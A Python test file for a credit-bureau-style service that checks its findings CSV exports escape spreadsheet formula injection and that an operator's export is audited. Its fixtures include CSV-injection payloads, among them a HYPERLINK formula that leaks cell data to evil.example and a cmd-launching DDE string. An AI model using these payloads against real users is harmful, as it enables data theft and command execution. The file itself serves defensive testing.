"""CSV exports are safe to open in a spreadsheet, and the operator's export through the API is audited."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

from fastapi.testclient import TestClient
from typer.testing import CliRunner

from openbureau.api.app import create_app
from openbureau.audit import service as audit
from openbureau.cli.main import app as cli
from openbureau.kit.db import session_scope
from openbureau.members.models import Role
from tests.intake.factories import person, write_file
from tests.members.factories import make_member

# Values a furnisher's file can carry into a finding, each a formula to a spreadsheet program (a leading tab
# or carriage return is trimmed by the readers; spreadsheet_safe covers them too, below).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP, CSV injection
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _poisoned_file(tmp_path: Path) -> Path:
    rows = [person(0, furnisher_account_id=f"P-{n}", currency=value) for n, value in enumerate(PAYLOADS)]
    return write_file(tmp_path / "poison.csv", rows)


def _assert_no_live_formula(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    values = [r[5] for r in rows[1:]]
    assert {f"'{p}" for p in PAYLOADS} <= set(values), values  # every payload is there, defused
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_findings_csv_from_the_api_cannot_run_formulas(runtime, tmp_path) -> None:
    key = make_member(runtime, "FURN", Role.FURNISHER)
    with TestClient(create_app(runtime)) as client:
        with _poisoned_file(tmp_path).open("rb") as handle:
            sid = client.post("/v1/submissions", headers={"X-API-Key": key},
                              files={"file": ("poison.csv", handle)}).json()["id"]
        response = client.get(f"/v1/submissions/{sid}/errors?format=csv", headers={"X-API-Key": key})
    assert response.status_code == 200
    _assert_no_live_formula(response.text)


def test_findings_csv_from_the_command_line_cannot_run_formulas(tmp_path, monkeypatch) -> None:
    from openbureau.kit.settings import get_settings

    monkeypatch.setenv("OPENBUREAU_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("OPENBUREAU_DATABASE_URL", raising=False)
    get_settings.cache_clear()
    try:
        runner = CliRunner()
        runner.invoke(cli, ["members", "add", "--code", "FURN", "--name", "F", "--role", "furnisher"])
        submitted = runner.invoke(cli, ["intake", "submit", str(_poisoned_file(tmp_path)), "--furnisher", "FURN",
                                        "--json"])
        sid = json.loads(submitted.stdout[submitted.stdout.index("{"):])["id"]
        out = tmp_path / "errors.csv"
        exported = runner.invoke(cli, ["intake", "errors", str(sid), "--out", str(out)])
        assert exported.exit_code == 0, exported.output
        _assert_no_live_formula(out.read_text(encoding="utf-8"))
    finally:
        get_settings.cache_clear()


def test_every_formula_start_is_escaped_and_nothing_else() -> None:
    from openbureau.kit.spreadsheet import spreadsheet_safe

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(f"{start}1") == f"'{start}1"
    assert spreadsheet_safe("plain") == "plain" and spreadsheet_safe(-5) == -5 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("a=b") == "a=b"


def test_no_export_writes_csv_around_the_one_safe_writer() -> None:
    src = Path(__file__).resolve().parents[2] / "src" / "openbureau"
    offenders = [str(p.relative_to(src)) for p in src.rglob("*.py")
                 if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
                 and p.relative_to(src).as_posix() != "kit/spreadsheet.py"]
    assert offenders == []


def test_the_operators_findings_export_through_the_api_is_audited(runtime, tmp_path) -> None:
    furnisher = make_member(runtime, "FURN", Role.FURNISHER)
    operator = make_member(runtime, "OPS", Role.OPERATOR)
    with TestClient(create_app(runtime)) as client:
        with _poisoned_file(tmp_path).open("rb") as handle:
            sid = client.post("/v1/submissions", headers={"X-API-Key": furnisher},
                              files={"file": ("poison.csv", handle)}).json()["id"]
        own = client.get(f"/v1/submissions/{sid}/errors?format=csv", headers={"X-API-Key": furnisher})
        exported = client.get(f"/v1/submissions/{sid}/errors?format=csv", headers={"X-API-Key": operator})
    assert own.status_code == 200 and exported.status_code == 200
    with session_scope(runtime.engine) as session:
        entries = audit.list_entries(session, action="submission.errors_export")
        assert [(e.actor_code, json.loads(e.details)) for e in entries] == [("OPS", {"submission_id": sid})]
        assert entries[0].actor_member_id is not None
